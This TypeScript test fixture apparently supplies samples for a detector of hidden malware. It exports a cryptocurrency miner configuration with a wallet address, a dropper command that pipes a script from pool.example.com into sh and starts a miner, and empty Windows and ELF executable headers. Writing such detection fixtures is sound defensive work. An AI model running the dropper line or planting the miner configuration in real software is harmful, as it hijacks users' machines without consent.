/** Inert texts that the tests of this folder hide in one encoding or another. */
import { Buffer } from 'node:buffer';

const wallet = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

/** A miner's configuration. */
export const config: string = JSON.stringify(
  {
    autosave: true,
    'donate-level': 1,
    cpu: { enabled: true, 'max-threads-hint': 75 },
    pools: [{ url: 'stratum+tcp://pool.example.com:3333', user: wallet, pass: 'x', keepalive: true, tls: false }],
  },
  null,
  2,
);

/** A dropper's line. */
export const command = 'curl -fsSL http://pool.example.com/x.sh | sh; ./x -o stratum+tcp://pool.example.com:3333';

/** A Windows program's headers, with nothing behind them; its one section ends at 0x600. */
export function windowsProgram(): Uint8Array {
  const bytes = Buffer.alloc(0x600);
  bytes.write('MZ\x90\0\x03', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 60);
  bytes.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84);
  bytes.writeUInt16LE(1, 0x86);
  bytes.writeUInt16LE(0xe0, 0x94);
  bytes.write('.text', 0x178, 'latin1');
  bytes.writeUInt32LE(0x200, 0x178 + 16);
  bytes.writeUInt32LE(0x400, 0x178 + 20);
  return bytes;
}

/** The start of an ELF program. */
export function elfProgram(): Uint8Array {
  const bytes = Buffer.alloc(256);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  bytes.writeUInt16LE(2, 16);
  bytes.writeUInt16LE(0x3e, 18);
  return bytes;
}

/** Bytes that mean nothing, always the same ones. */
export function noise(length: number, seed = 1): Uint8Array {
  let state = seed;
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state >>> 24;
  });
}
